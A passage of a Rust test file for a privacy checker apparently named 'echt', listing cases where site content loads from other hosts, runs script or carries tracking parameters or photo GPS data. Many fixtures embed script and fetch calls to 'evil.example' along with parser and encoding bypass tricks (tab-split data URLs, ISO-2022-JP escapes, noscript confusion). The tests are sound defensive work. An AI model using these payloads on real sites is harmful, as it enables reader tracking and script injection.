        [text!("content/posts/b/rahmen.html", "<!doctype html>\n<title>Rahmen</title>\n<img src=\"https://img.example/bundle.png\" alt=\"\">\n"),
            ("content/posts/b/index.md", Body::Text("---\ntitle: \"B\"\ndate: 2024-01-03\n---\nMit Rahmen.\n"))],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/b/rahmen.html:3:11"),
    ),
    case!(
        "bundle-svg",
        [text!("content/posts/b/bild.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<image href=\"https://img.example/bundle-svg.png\"/>\n</svg>\n"),
            ("content/posts/b/index.md", Body::Text("---\ntitle: \"B\"\ndate: 2024-01-03\n---\n![Bild](bild.svg)\n"))],
        fails("error: `<image href>` loads from another host, `img.example`", "content/posts/b/bild.svg:2:14"),
    ),
    case!(
        "static-svgz",
        [text!("static/bild.svgz", "x")],
        fails("error: echt cannot check this file: a compressed SVG (.svgz)", "static/bild.svgz"),
    ),
    case!(
        "static-mhtml",
        [text!("static/archiv.mht", "MIME-Version: 1.0\n")],
        fails("error: echt cannot check this file: a web archive (.mht)", "static/archiv.mht"),
    ),
    // What only a feed reader sees
    case!(
        "feed-only-img",
        [post!("Nur im Feed:\n\n<img src=\"https://img.example/feed.png\" alt=\"\">"),
            body!("<h1>{{ page.title }}</h1>")],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:7:11"),
    ),
    case!(
        "feed-only-script",
        [post!("Nur im Feed:\n\n<script>fetch(\"https://evil.example/feed-script\")</script>"),
            body!("<h1>{{ page.title }}</h1>")],
        fails(SCRIPT, "content/posts/a.md:7:1"),
    ),
    case!(
        "feed-only-handler",
        [post!("Nur im Feed:\n\n<p onclick=\"fetch('https://evil.example/feed-handler')\">Text</p>"),
            body!("<h1>{{ page.title }}</h1>")],
        fails("error: the `onclick` attribute runs code in the reader's browser", "content/posts/a.md:7:4"),
    ),
    case!(
        "feed-only-noscript",
        [post!("Nur im Feed:\n\n<noscript><p title=\"</noscript><img src=https://img.example/feed-noscript.png>\"></noscript>"),
            body!("<h1>{{ page.title }}</h1>")],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:7:41"),
    ),
    case!(
        "feed-summary-only",
        [post!("<img src=\"https://img.example/summary.png\" alt=\"\">\n\nMehr."),
            body!("<h1>{{ page.title }}</h1>"),
            config!("feed:\n  full_content: false\n")],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    // Values of front matter and pages that end up in HTML
    case!(
        "front-matter-image",
        [("content/posts/a.md", Body::Text("---\ntitle: \"A\"\ndate: 2024-01-01\nimage: https://img.example/titelbild.png\n---\nText.\n"))],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:4:8"),
    ),
    case!(
        "front-matter-summary",
        [("content/posts/a.md", Body::Text("---\ntitle: \"A\"\ndate: 2024-01-01\nsummary: \"<img src=https://img.example/summary-field.png>\"\n---\nText.\n"))],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:4:20"),
    ),
    case!(
        "front-matter-title-marked-safe",
        [
            body!("<h1>{{ page.title | safe }}</h1>"),
            (
                "content/posts/a.md",
                Body::Text("---\ntitle: \"<img src=https://img.example/title-safe.png>\"\ndate: 2024-01-01\n---\nText.\n")
            ),
        ],
        fails(
            "error: `<img src>` loads from another host, `img.example`",
            "content/posts/a.md:2:18"
        ),
    ),
    case!(
        "content-html-file",
        [text!(
            "content/seite.html",
            "<!doctype html>\n<title>Seite</title>\n<script>fetch(\"https://evil.example/content-html\")</script>\n"
        )],
        fails(SCRIPT, "content/seite.html:3:1"),
    ),
    case!(
        "page-script",
        [text!("content/impressum.md", "---\ntitle: Impressum\n---\nText.\n\n<script>fetch(\"https://evil.example/page\")</script>\n")],
        fails(SCRIPT, "content/impressum.md:6:1"),
    ),
    case!(
        "privacy-page-img",
        [text!("content/datenschutz.md", "---\ntitle: Datenschutz\n---\nText.\n\n<img src=\"https://img.example/datenschutz.png\" alt=\"\">\n")],
        fails("error: `<img src>` loads from another host, `img.example`", "content/datenschutz.md:6:11"),
    ),
    // Tracking parameters: removed, with a note
    case!(
        "tracking-utm-percent-encoded",
        [post!("Gekauft im [Laden](https://shop.example/p?utm%5Fsource=blog&id=4).")],
        notes(
            "note: removed the tracking parameter `utm_source` from a link to `shop.example`",
            "content/posts/a.md:5:20",
            "utm%5Fsource"
        ),
    ),
    case!(
        "tracking-matomo",
        [post!(r#"<a href="https://shop.example/p?mtm_campaign=herbst">Laden</a>"#)],
        notes(
            "note: removed the tracking parameter `mtm_campaign` from a link to `shop.example`",
            "content/posts/a.md:5:10",
            "mtm_campaign"
        ),
    ),
    case!(
        "tracking-piwik",
        [post!(r#"<a href="https://shop.example/p?pk_kwd=x&amp;pk_source=y">Laden</a>"#)],
        notes(
            "note: removed the tracking parameters `pk_kwd`, `pk_source` from a link to `shop.example`",
            "content/posts/a.md:5:10",
            "pk_kwd"
        ),
    ),
    case!(
        "tracking-google-ads",
        [post!("[Laden](https://shop.example/?gad_source=1&gclid=abc)")],
        notes(
            "note: removed the tracking parameters `gad_source`, `gclid` from a link to `shop.example`",
            "content/posts/a.md:5:9",
            "gad_source"
        ),
    ),
    case!(
        "tracking-instagram",
        [post!("[Bild](https://www.instagram.example/p/abc/?igsh=MTIzNDU2)")],
        notes(
            "note: removed the tracking parameter `igsh` from a link to `www.instagram.example`",
            "content/posts/a.md:5:8",
            "igsh"
        ),
    ),
    case!(
        "tracking-facebook",
        [post!("[Beitrag](https://www.facebook.example/share/p/xyz/?mibextid=WC7FNe)")],
        notes(
            "note: removed the tracking parameter `mibextid` from a link to `www.facebook.example`",
            "content/posts/a.md:5:11",
            "mibextid"
        ),
    ),
    case!(
        "tracking-convertkit",
        [post!("[Brief](https://news.example/brief?ck_subscriber_id=42)")],
        notes(
            "note: removed the tracking parameter `ck_subscriber_id` from a link to `news.example`",
            "content/posts/a.md:5:9",
            "ck_subscriber_id"
        ),
    ),
    case!(
        "tracking-klaviyo",
        [post!("[Laden](https://shop.example/?_kx=abc.def)")],
        notes(
            "note: removed the tracking parameter `_kx` from a link to `shop.example`",
            "content/posts/a.md:5:9",
            "_kx="
        ),
    ),
    case!(
        "tracking-hubspot-ads",
        [post!("[Laden](https://shop.example/?hsa_acc=1&hsa_cam=2&q=schuhe)")],
        notes(
            "note: removed the tracking parameters `hsa_acc`, `hsa_cam` from a link to `shop.example`",
            "content/posts/a.md:5:9",
            "hsa_"
        ),
    ),
    case!(
        "tracking-microsoft",
        [post!("[Doku](https://learn.example/artikel?WT.mc_id=ABC-123)")],
        notes(
            "note: removed the tracking parameter `WT.mc_id` from a link to `learn.example`",
            "content/posts/a.md:5:8",
            "WT.mc_id"
        ),
    ),
    case!(
        "tracking-at-internet",
        [post!("[Artikel](https://zeitung.example/artikel?xtor=RSS-1)")],
        notes(
            "note: removed the tracking parameter `xtor` from a link to `zeitung.example`",
            "content/posts/a.md:5:11",
            "xtor"
        ),
    ),
    case!(
        "tracking-upper-case",
        [post!("[Laden](https://shop.example/?UTM_Source=x)")],
        notes(
            "note: removed the tracking parameter `UTM_Source` from a link to `shop.example`",
            "content/posts/a.md:5:9",
            "UTM_Source"
        ),
    ),
    case!(
        "tracking-with-fragment",
        [post!("[Laden](https://shop.example/p?fbclid=x#preise)")],
        notes(
            "note: removed the tracking parameter `fbclid` from a link to `shop.example`",
            "content/posts/a.md:5:9",
            "fbclid"
        ),
    ),
    case!(
        "tracking-svg-xlink-href",
        [post!(r#"<svg><a xlink:href="https://shop.example/?utm_medium=svg"><text y="10">Laden</text></a></svg>"#)],
        notes(
            "note: removed the tracking parameter `utm_medium` from a link to `shop.example`",
            "content/posts/a.md:5:21",
            "utm_medium"
        ),
    ),
    case!(
        "tracking-svg-href",
        [post!(r#"<svg><a href="https://shop.example/?utm_content=svg2"><text y="10">Laden</text></a></svg>"#)],
        notes(
            "note: removed the tracking parameter `utm_content` from a link to `shop.example`",
            "content/posts/a.md:5:15",
            "utm_content"
        ),
    ),
    case!(
        "tracking-area",
        [post!("<img src=\"/bild.png\" usemap=\"#m\" alt=\"\"><map name=\"m\"><area href=\"https://shop.example/?utm_term=area\" alt=\"Laden\" shape=\"default\"></map>")],
        notes(
            "note: removed the tracking parameter `utm_term` from a link to `shop.example`",
            "content/posts/a.md:5:67",
            "utm_term"
        ),
    ),
    case!(
        "tracking-mathml",
        [post!(r#"<math href="https://shop.example/?utm_id=math"><mi>x</mi></math>"#)],
        notes(
            "note: removed the tracking parameter `utm_id` from a link to `shop.example`",
            "content/posts/a.md:5:13",
            "utm_id"
        ),
    ),
    // Server files that send readers elsewhere
    case!(
        "host-redirect",
        [text!("static/_redirects", "/alt https://evil.example/ 301\n")],
        fails("error: this rule sends readers to another host, `evil.example`", "static/_redirects:1:6"),
    ),
    case!(
        "host-header-link-preload",
        [text!("static/_headers", "/*\n  Link: <https://evil.example/header.css>; rel=preload; as=style\n")],
        fails("error: `Link: rel=preload` makes readers' browsers contact another host, `evil.example`", "static/_headers:2:10"),
    ),
    // Other encodings
    case!(
        "static-svg-utf-16",
        [("static/logo.svg", Body::Made(svg_utf16))],
        fails(
            "error: echt cannot check this file: it is UTF-16 text; save it as UTF-8",
            "static/logo.svg"
        ),
    ),
    case!(
        "static-css-utf-16",
        [("static/fremd.css", Body::Made(css_utf16))],
        fails(CSS_URL, "static/fremd.css:2:15"),
    ),
    case!(
        "static-css-utf-16-big-endian",
        [("static/fremd.css", Body::Made(css_utf16_big_endian))],
        fails(CSS_URL, "static/fremd.css:2:15"),
    ),
    case!(
        "static-css-latin-1",
        [(
            "static/fremd.css",
            Body::Bytes(b"@charset \"iso-8859-1\";\n/* Gr\xfc\xdfe */\np {\n  background: url(https://evil.example/latin-1.png);\n}\n")
        )],
        fails(CSS_URL, "static/fremd.css:4:15"),
    ),
    case!(
        "template-iso-2022-jp-escapes",
        [
            ("templates/post.html", Body::Text("<!doctype html>\n<html lang=\"ja\">\n<head>\n<meta charset=\"iso-2022-jp\">\n<title>{{ page.title }}</title>\n</head>\n<body>\n{{ page.content | safe }}\n</body>\n</html>\n")),
            post!("<p a=\"\x1b$B\"\x1b(B b=\"> <img src=https://img.example/iso-2022-jp.png>\">Text</p>"),
        ],
        fails("error: the file contains the control character U+001B (escape)", "content/posts/a.md:5:7"),
    ),
    case!(
        "static-css-charset-iso-2022-jp",
        [(
            "static/jis.css",
            Body::Bytes(b"@charset \"iso-2022-jp\";\np{x:\"\x1b$B\"\x1b(B\";background:url(https://evil.example/jis-charset.png);y:\"}\n")
        )],
        fails(
            "error: echt cannot check this file: it is written in ISO-2022-JP",
            "static/jis.css"
        ),
    ),
    // Templates
    case!(
        "template-include",
        [
            body!("{% include \"teile/fuss.html\" %}"),
            text!(
                "templates/teile/fuss.html",
                "<footer>\n<img src=\"https://img.example/include.png\" alt=\"\">\n</footer>\n"
            ),
        ],
        fails(
            "error: `<img src>` loads from another host, `img.example`",
            "templates/teile/fuss.html:2:11"
        ),
    ),
    case!(
        "location-with-crlf-line-ends",
        [(
            "content/posts/a.md",
            Body::Text("---\r\ntitle: \"A\"\r\ndate: 2024-01-01\r\n---\r\nText.\r\n\r\n<img src=\"https://img.example/crlf.png\" alt=\"\">\r\n")
        )],
        fails(
            "error: `<img src>` loads from another host, `img.example`",
            "content/posts/a.md:7:11"
        ),
    ),
    case!(
        "location-after-umlauts-and-emoji",
        [post!("Größe 😀 <img src=\"https://img.example/umlaut.png\" alt=\"\">")],
        fails(
            "error: `<img src>` loads from another host, `img.example`",
            "content/posts/a.md:5:19"
        ),
    ),
    // Benign controls: these must build
    case!(
        "ok-links-to-other-sites",
        [post!(
            "Siehe [dort](https://other.example/seite?id=3), <https://other.example/auto> und <a href=\"https://other.example/b\" target=\"_blank\">b</a>."
        )],
        BUILDS,
    ),
    case!(
        "ok-own-images",
        [post!(
            "<img src=\"/bild.png\" alt=\"\">\n\n![Bild](/bild.png)\n\n<picture><source srcset=\"/bild.png 2x\"><img src=\"../../bild.png\" alt=\"\"></picture>"
        )],
        BUILDS,
    ),
    case!(
        "ok-data-images",
        [post!(
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"\">\n\n<p style=\"background:url(data:image/gif;base64,R0lGODlhAQABAAAAACw=)\">Text</p>"
        )],
        BUILDS,
    ),
    case!(
        "ok-data-svg-image-with-foreign-href",
        [post!(
            "<img src=\"data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22https://img.example/in-data-image.png%22 width=%229%22 height=%229%22/%3E%3C/svg%3E\" alt=\"\">"
        )],
        BUILDS,
    ),
    case!(
        "ok-noscript-text",
        [post!("<noscript>Diese Seite braucht kein JavaScript.</noscript>")],
        BUILDS,
    ),
    case!(
        "ok-svg-plain-doctype",
        [text!(
            "static/logo.svg",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"/>\n"
        )],
        BUILDS,
    ),
    case!(
        "ok-css-charset-utf-8",
        [text!(
            "static/eigen.css",
            "@charset \"utf-8\";\n/* Größe */\np { color: #333; background: url(bild.png); }\n@font-face { font-family: F; src: local(\"Arial\"); }\n"
        )],
        BUILDS,
    ),
    case!(
        "ok-inline-svg-internal-references",
        [post!(
            "<svg width=\"10\" height=\"10\"><defs><linearGradient id=\"g\"><stop offset=\"0\" stop-color=\"red\"/></linearGradient></defs><rect width=\"10\" height=\"10\" fill=\"url(#g)\"/><use href=\"#g\"/></svg>"
        )],
        BUILDS,
    ),
    case!(
        "ok-markup-in-title-is-escaped",
        [(
            "content/posts/a.md",
            Body::Text("---\ntitle: \"<img src=https://img.example/title.png>\"\ndate: 2024-01-01\n---\nText.\n")
        )],
        BUILDS,
    ),
    case!(
        "ok-links-that-load-nothing",
        [head!(
            "<link rel=\"alternate\" type=\"application/rss+xml\" href=\"https://other.example/feed.xml\">\n<link rel=\"me\" href=\"https://social.example/@erika\">\n<link rel=\"canonical\" href=\"https://example.org/posts/hallo/\">"
        )],
        BUILDS,
    ),
    case!(
        "ok-mailto-and-tel",
        [post!("[Schreib mir](mailto:erika@example.org) oder ruf an: <a href=\"tel:+4930123456\">030 123456</a>.")],
        BUILDS,
    ),
    case!(
        "ok-mathml",
        [post!("<math><mfrac><mi>a</mi><mi>b</mi></mfrac></math>")],
        BUILDS,
    ),
    case!(
        "ok-template-without-loads",
        [post!("<div><template><p>Vorlage</p></template></div>")],
        BUILDS,
    ),
    case!(
        "ok-undeclared-prefix-in-html-svg",
        [post!(
            "<svg xmlns:l=\"http://www.w3.org/1999/xlink\"><use l:href=\"https://evil.example/undeclared.svg#x\"/></svg>"
        )],
        BUILDS,
    ),
    case!(
        "ok-plain-text-data-frame",
        [post!("<iframe src=\"data:,Hallo\" title=\"Text\"></iframe>")],
        BUILDS,
    ),
    case!(
        "ok-own-media",
        [
            post!("<video controls src=\"/film.mp4\" poster=\"/bild.png\"><track src=\"/film.vtt\" kind=\"captions\"></video>"),
            ("static/film.mp4", Body::Bytes(b"\0\0\0\x18ftypmp42")),
            text!("static/film.vtt", "WEBVTT\n"),
        ],
        BUILDS,
    ),
    case!(
        "ok-own-stylesheet-and-fonts",
        [
            head!("<link rel=\"stylesheet\" href=\"/eigen.css\">\n<link rel=\"preload\" as=\"font\" href=\"/schrift.woff2\" crossorigin>"),
            text!(
                "static/eigen.css",
                "@font-face { font-family: Eigen; src: url(schrift.woff2) format(\"woff2\"); }\np { font-family: Eigen; background: url(/bild.png); }\n"
            ),
            ("static/schrift.woff2", Body::Bytes(b"wOF2")),
        ],
        BUILDS,
    ),
    case!(
        "ok-author-url-to-another-site",
        [config!("  url: \"https://other.example/erika\"\n")],
        BUILDS,
    ),
    // Found by the catalogue and the browser test, fixed since.
    case!(
        "static-svg-style-cdata",
        [text!("static/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <style><![CDATA[rect { fill: url(https://evil.example/cdata.svg#p) }]]></style>\n  <rect width=\"5\" height=\"5\"/>\n</svg>\n")],
        fails(CSS_URL, "static/logo.svg:2:32"),
    ),
    case!(
        "svg-script-without-attributes",
        [post!(r#"<div><svg><script>fetch("https://evil.example/svg-script")</script></svg></div>"#)],
        fails(SCRIPT, "content/posts/a.md:5:11"),
    ),
    case!(
        "data-url-split-by-tab-in-frame",
        [post!(r#"<iframe src="da&#9;ta:text/html,<img src=https://img.example/tab-frame.png>"></iframe>"#)],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:14"),
    ),
    case!(
        "data-url-split-by-tab-in-stylesheet",
        [post!(r#"<link rel="stylesheet" href="da&#9;ta:text/css,p{background:url(https://evil.example/tab-stylesheet.png)}">"#)],
        fails(CSS_URL, "content/posts/a.md:5:30"),
    ),
    case!(
        "data-url-split-by-css-escape-in-import",
        [post!("<style>@import url(\"da\\9 ta:text/css,p{background:url(https://evil.example/tab-import.png)}\");</style>")],
        fails(CSS_URL, "content/posts/a.md:5:51"),
    ),
    case!(
        "data-url-behind-a-control-character-in-import",
        [post!(
            r#"<style>@import url("\1 data:text/css,p{background:url(https://evil.example/control.png)}");</style>"#
        )],
        fails(CSS_URL, "content/posts/a.md:5:51"),
    ),
    case!(
        "data-stylesheet-charset",
        [post!(
            r#"<link rel="stylesheet" href="data:text/css,@charset %22iso-2022-jp%22;p{x:%22%1B$B%22%1B(B%22;background:url(https://evil.example/data-jis.png);y:%22}">"#
        )],
        fails("error: the `data:` URL in `href` cannot be read", "content/posts/a.md:5:30"),
    ),
    case!(
        "base-href-scheme-without-slashes",
        [post!("<base href=\"https:evil.example/\">\n\nText.")],
        fails(
            "error: `<base href>` points to another host, `evil.example`",
            "content/posts/a.md:5:13"
        ),
    ),
    case!(
        "srcset-nested-parentheses",
        [post!(r#"<img srcset="/bild.png 1x ((a), https://img.example/parens.png 1x" alt="">"#)],
        fails(
            "error: `<img srcset>` loads from another host, `img.example`",
            "content/posts/a.md:5:33"
        ),
    ),
    case!(
        "scheme-without-slashes",
        [post!(r#"<img src="https:img.example/scheme-relative.png" alt="">"#),
            ("static/img.example/scheme-relative.png", Body::Bytes(PNG)),
            ("static/posts/a/img.example/scheme-relative.png", Body::Bytes(PNG))],
        fails("error: `<img src>` loads from another host, `img.example`", "content/posts/a.md:5:11"),
    ),
    case!(
        "object-element",
        [post!(r#"<object data="https://evil.example/object.pdf" type="application/pdf"></object>"#)],
        fails("error: `<object>` embeds content that the site's Content-Security-Policy blocks", "content/posts/a.md:5:1"),
    ),
    case!(
        "embed-element",
        [post!(r#"<embed src="https://evil.example/embed.swf">"#)],
        fails("error: `<embed>` embeds content that the site's Content-Security-Policy blocks", "content/posts/a.md:5:1"),
    ),
    case!(
        "portal-element",
        [post!(r#"<portal src="https://evil.example/portal.html"></portal>"#)],
        fails("error: `<portal>` embeds content that the site's Content-Security-Policy blocks", "content/posts/a.md:5:1"),
    ),
    case!(
        "meta-set-cookie",
        [post!(r#"<meta http-equiv="set-cookie" content="besucher=1">"#)],
        fails("error: `<meta http-equiv=set-cookie>` sets a cookie", "content/posts/a.md:5:1"),
    ),
    case!(
        "select-style-ambiguity",
        [post!("<div><select><style>p{color:red}</style></select></div>")],
        fails("error: echt cannot rewrite this page with certainty", "content/posts/a.md:5:14"),
    ),
    case!(
        "frameset-xmp-ambiguity",
        [text!("templates/post.html", "<!doctype html>\n<html lang=\"de\">\n<head>\n<title>{{ page.title }}</title>\n</head>\n<frameset>\n<xmp><img src=\"https://img.example/xmp.png\"></xmp>\n</frameset>\n</html>\n")],
        fails("error: echt cannot rewrite this page with certainty", "templates/post.html:7:1"),
    ),
    case!(
        "text-before-head",
        [text!("templates/post.html", "<!doctype html>\nHallo {{ page.title }}\n<img src=\"/bild.png\" alt=\"\">\n")],
        fails(NOT_HEAD, "templates/post.html:2:1"),
    ),
    case!(
        "parse-error-in-markdown-paragraph",
        [post!("<noscript><p>Diese Seite braucht kein JavaScript.</p></noscript>")],
        fails("error: echt cannot be sure how browsers read this HTML", "content/posts/a.md:5:11"),
    ),
    case!(
        "parse-error-on-short-template-line",
        [text!("templates/post.html", "<!doctype html>\n<html lang=\"de\">\n<img src=\"/bild.png\" alt=\"\">\n<head>\n<title>{{ page.title }}</title>\n</head>\n<body>\n</body>\n</html>\n")],
        fails(PARSE, "templates/post.html:4:1"),
    ),
    case!(
        "url-also-mentioned-in-text",
        [post!("Das Bild https://img.example/gleich.png ist hübsch.\n\n<img src=\"https://img.example/gleich.png\" alt=\"\">")],
        fails(
            "error: `<img src>` loads from another host, `img.example`",
            "content/posts/a.md:7:11"
        ),
    ),
    case!(
        "url-also-mentioned-in-another-post",
        [
            post!(r#"<img src="https://img.example/gleich.png" alt="">"#),
            (
                "content/posts/b.md",
                Body::Text("---\ntitle: \"B\"\ndate: 2024-01-03\n---\nSiehe https://img.example/gleich.png\n")
            ),
        ],
        only(
            "error: `<img src>` loads from another host, `img.example`",
            "content/posts/a.md:5:11"
        ),
    ),
    case!(
        "url-also-in-a-template-comment",
        [body!("{# früher: https://img.example/kommentar.png #}\n<img src=\"https://img.example/kommentar.png\" alt=\"\">")],
        fails(
            "error: `<img src>` loads from another host, `img.example`",
            "templates/post.html:9:11"
        ),
    ),
    case!(
        "config-author-url-javascript",
        [config!("  url: \"javascript:fetch(1)\"\n")],
        fails(
            "error: a `javascript:` URL in `<a href>` runs code in the reader's browser",
            "echt.yaml:6:9"
        ),
    ),
    case!(
        "config-title-markup-in-rss",
        [(
            "echt.yaml",
            Body::Text("title: \"<script>fetch(1)</script>\"\nbase_url: https://example.org/\nlanguage: de\nauthor:\n  name: Erika\n")
        )],
        fails(SCRIPT, "echt.yaml:1:9"),
    ),
    case!(
        "config-description-markup-in-rss",
        [(
            "echt.yaml",
            Body::Text("title: Testblog\ndescription: \"<img src=https://img.example/description.png>\"\nbase_url: https://example.org/\nlanguage: de\nauthor:\n  name: Erika\n")
        )],
        fails(
            "error: `<img src>` loads from another host, `img.example`",
            "echt.yaml:2:24"
        ),
    ),
    case!(
        "config-extra-marked-safe",
        [
            config!("extra:\n  statistik: \"<script src=https://cdn.example/zaehler.js></script>\"\n"),
            head!("{{ site.extra.statistik | safe }}"),
        ],
        fails(
            "error: `<script src>` loads code from another host, `cdn.example`",
            "echt.yaml:7:27"
        ),
    ),
    case!(
        "feed-author-uri-javascript",
        [
            config!("  url: \"javascript:fetch(1)\"\n"),
            ("templates/base.html", Body::Made(base_without_author_link)),
            body!("<h1>{{ page.title }}</h1>"),
        ],
        fails(
            "error: a `javascript:` URL",
            "echt.yaml:6:9"
        ),
    ),
    case!(
        "attributionsrc",
        [post!(r#"<img src="/bild.png" attributionsrc="https://evil.example/attribution" alt="">"#)],
        fails("error: `<img attributionsrc>` ", "content/posts/a.md:5:38"),
    ),
    case!(
        "template-charset-iso-2022-jp",
        [(
            "templates/post.html",
            Body::Text("<!doctype html>\n<html lang=\"ja\">\n<head>\n<meta charset=\"iso-2022-jp\">\n<title>{{ page.title }}</title>\n</head>\n<body>\n{{ page.content | safe }}\n</body>\n</html>\n")
        )],
        fails("error: `<meta charset>` names the encoding `iso-2022-jp`; echt reads and writes only UTF-8", "templates/post.html:4:16"),
    ),
    case!(
        "stylesheet-in-the-page-encoding",
        [
            (
                "templates/post.html",
                Body::Text("<!doctype html>\n<html lang=\"ja\">\n<head>\n<meta charset=\"iso-2022-jp\">\n<title>{{ page.title }}</title>\n<link rel=\"stylesheet\" href=\"/jis.css\">\n</head>\n<body>\n{{ page.content | safe }}\n</body>\n</html>\n")
            ),
            (
                "static/jis.css",
                Body::Bytes(b"p{x:\"\x1b$B\"\x1b(B\";background:url(https://evil.example/jis.png);y:\"}\n")
            ),
        ],
        fails("error: `<meta charset>` names the encoding `iso-2022-jp`; echt reads and writes only UTF-8", "templates/post.html:4:16"),
    ),
    case!(
        "stylesheet-link-charset",
        [
            post!(r#"<link rel="stylesheet" charset="iso-2022-jp" href="/jis.css">"#),
            (
                "static/jis.css",
                Body::Bytes(b"p{x:\"\x1b$B\"\x1b(B\";background:url(https://evil.example/link-charset.png);y:\"}\n")
            ),
        ],
        fails("error: `<link charset>`", "content/posts/a.md:5:33"),
    ),
    case!(
        "stylesheet-imported-in-the-importers-encoding",
        [
            post!(r#"<link rel="stylesheet" href="/haupt.css">"#),
            text!("static/haupt.css", "@charset \"iso-2022-jp\";\n@import \"jis.css\";\n"),
            (
                "static/jis.css",
                Body::Bytes(b"p{x:\"\x1b$B\"\x1b(B\";background:url(https://evil.example/import-charset.png);y:\"}\n")
            ),
        ],
        fails("error: echt cannot check this file: it is written in ISO-2022-JP", "static/haupt.css"),
    ),
    case!(
        "header-speculation-rules",
        [text!(
            "static/_headers",
            "/*\n  Speculation-Rules: \"https://evil.example/regeln.json\"\n"
        )],
        fails("error: `Speculation-Rules` makes browsers fetch rules that prefetch and prerender pages", "static/_headers:2:22"),
    ),
    case!(
        "header-speculation-rules-own-file",
        [
            text!("static/_headers", "/*\n  Speculation-Rules: \"/regeln.json\"\n"),
            text!(
                "static/regeln.json",
                concat!(
                    r#"{"prefetch": [{"source": "list", "urls": ["https://evil.example/speculation-prefetch"]}]}"#,
                    "\n"
                )
            ),
        ],
        fails("error: `Speculation-Rules` makes browsers fetch rules that prefetch and prerender pages", "static/_headers:2:22"),
    ),
    case!(
        "static-html-language-extension",
        [text!(
            "static/seite.html.de",
            "Hallo!\n<script>fetch(\"https://evil.example/html-de\")</script>\n"
        )],
        fails(SCRIPT, "static/seite.html.de:2:1"),
    ),
    case!(
        "svg-feimage-name",
        [post!(r#"<svg><filter id="f"><feImage href="https://img.example/feimage.png"/></filter><rect width="5" height="5" filter="url(#f)"/></svg>"#)],
        fails("error: `<feImage href>` loads from another host, `img.example`", "content/posts/a.md:5:36"),
    ),
    case!(
        "svg-lineargradient-name",
        [post!(r#"<svg><linearGradient id="g" xlink:href="https://evil.example/gradient.svg#h"/><rect width="5" height="5" fill="url(#g)"/></svg>"#)],
        fails("error: `<linearGradient xlink:href>` loads from another host, `evil.example`", "content/posts/a.md:5:41"),
    ),
    case!(
        "svg-radialgradient-name",
        [post!(r#"<svg><radialGradient id="g" href="https://evil.example/gradient.svg#h"/><rect width="5" height="5" fill="url(#g)"/></svg>"#)],
        fails("error: `<radialGradient href>` loads from another host, `evil.example`", "content/posts/a.md:5:35"),
    ),
    case!(
        "svg-textpath-name",
        [post!(r#"<svg><text y="10"><textPath href="https://evil.example/pfad.svg#p">Text</textPath></text></svg>"#)],
        fails("error: `<textPath href>` loads from another host, `evil.example`", "content/posts/a.md:5:35"),
    ),
    case!(
        "web-manifest-message",
        [text!("static/site.webmanifest", "{\n  \"name\": \"Testblog\",\n  \"icons\": [{\"src\": \"https://img.example/icon.png\", \"sizes\": \"192x192\"}]\n}\n")],
        fails("error: the web app manifest loads from another host, `img.example`", "static/site.webmanifest:3:22"),
    ),
    case!(
        "static-tracking-warning-singular",
        [text!(
            "static/seite.html",
            "<!doctype html>\n<title>Seite</title>\n<a href=\"https://shop.example/?utm_source=x\">Laden</a>\n"
        )],
        notes(
            "warning: a link to `shop.example` carries the tracking parameter `utm_source`;",
            "static/seite.html:3:10",
            ""
        ),
    ),
    case!(
        "ok-srcdoc-without-doctype",
        [post!("<iframe srcdoc=\"<p>Hallo</p>\" title=\"Gruß\"></iframe>")],
        BUILDS,
    ),
    // Pictures: location data in any published image (by its bytes),
    // cleaned where echt can, refused where it cannot (`photos.rs` makes
    // them; `privacy.rs` checks what the cleaned files still carry).
    case!(
        "ok-gps-jpeg-in-static-is-cleaned",
        [("static/foto.jpg", Body::Made(phone_jpeg)), post!("![Foto](/foto.jpg)")],
        BUILDS,
    ),
    case!(
        "ok-gps-jpeg-named-as-text-is-cleaned",
        [("static/foto.txt", Body::Made(phone_jpeg))],
        BUILDS,
    ),
    case!(
        "ok-gps-after-the-jpeg-end-is-cleaned",
        [("static/doppelt.jpg", Body::Made(jpeg_with_appended_gps))],
        BUILDS,
    ),
    case!(
        "ok-gps-in-xmp-only-jpeg-is-cleaned",
        [("static/xmp.jpg", Body::Made(jpeg_with_xmp_position))],
        BUILDS,
    ),
    case!(
        "ok-gps-in-png-exif-chunk-is-cleaned",
        [("static/karte.png", Body::Made(png_with_gps))],
        BUILDS,
    ),
    case!(
        "ok-gps-in-webp-is-cleaned",
        [("static/karte.webp", Body::Made(webp_with_gps))],
        BUILDS,
    ),
    case!(
        "ok-damaged-exif-in-jpeg-is-removed",
        [("static/kaputt-exif.jpg", Body::Made(jpeg_with_damaged_exif))],
        BUILDS,
    ),
    case!(
        "ok-gps-kept-by-allowance",
        [config!("privacy:\n  keep_metadata: [static/karte.tif, static/foto.jpg]\n"),
            ("static/karte.tif", Body::Made(tiff_with_gps)),
            ("static/foto.jpg", Body::Made(phone_jpeg))],
        BUILDS,
    ),
    case!(
        "gps-in-tiff",
        [("static/karte.tif", Body::Made(tiff_with_gps))],
        only("error: /karte.tif carries location data (TIFF): EXIF GPS fields (GPSLatitudeRef, GPSLatitude, GPSLongitudeRef, GPSLongitude)", "static/karte.tif"),
    ),
    case!(
        "gps-in-tiff-without-extension",
        [("static/karte", Body::Made(tiff_with_gps))],
        only("error: /karte carries location data (TIFF)", "static/karte"),
    ),
    case!(
        "gps-in-heic",
        [("static/foto.heic", Body::Made(heic_with_gps))],
        only("error: /foto.heic carries location data (HEIF): EXIF GPS fields", "static/foto.heic"),
    ),
    case!(
        "gps-in-heic-xmp-only",
        [("static/foto.heic", Body::Made(heic_with_xmp_position))],
